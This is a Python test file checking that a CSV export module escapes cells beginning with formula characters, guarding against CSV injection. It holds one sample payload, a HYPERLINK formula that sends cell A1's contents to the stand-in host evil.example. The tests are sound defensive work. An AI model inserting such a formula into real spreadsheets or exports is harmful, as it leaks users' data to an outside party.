"""Issue 14 defect 1: every CSV peermatch writes neutralises formula cells (CSV injection)."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from folder_edits import NO_DATA_DIR, set_cell, tiny_copy

from matcher.io import load_programme, save_programme, write_tables
from matcher.io.csv_safe import csv_text, neutralise, restore_cell

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_a_formula_is_quoted(start):
    assert neutralise(start + "cmd") == "'" + start + "cmd"
    assert restore_cell(neutralise(start + "cmd")) == start + "cmd"


@pytest.mark.parametrize("value", ["-3", "+4.5", "-1e3", 7, -2.5, "Ada", "", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


def test_no_cell_of_written_csv_starts_a_formula():
    frame = pd.DataFrame({"name": [ATTACK, "@SUM(1)", "-x", "ok"], "days": [-1, 2, 3, 4]})
    rows = list(csv.reader(csv_text(frame).splitlines()))
    cells = [c for row in rows[1:] for c in row[:1]]
    assert cells == ["'" + ATTACK, "'@SUM(1)", "'-x", "ok"]
    assert [row[1] for row in rows[1:]] == ["-1", "2", "3", "4"]


def test_job_outputs_are_neutralised(tmp_path):
    out = write_tables({"teams": pd.DataFrame({"name": [ATTACK]})}, tmp_path / "out")
    rows = list(csv.reader((out / "teams.csv").read_text(encoding="utf-8").splitlines()))
    assert rows == [["name"], ["'" + ATTACK]]


def test_a_saved_programme_with_formula_names_loads_back_equal(tmp_path):
    folder = tiny_copy(tmp_path)
    set_cell(folder, "peers.csv", 2, "name", ATTACK)
    programme = load_programme(folder, NO_DATA_DIR)
    saved = save_programme(programme, tmp_path / "saved")
    assert "'=HYPERLINK" in (saved / "peers.csv").read_text(encoding="utf-8")
    again = load_programme(saved, NO_DATA_DIR)
    assert again.peers[0].name == ATTACK == programme.peers[0].name
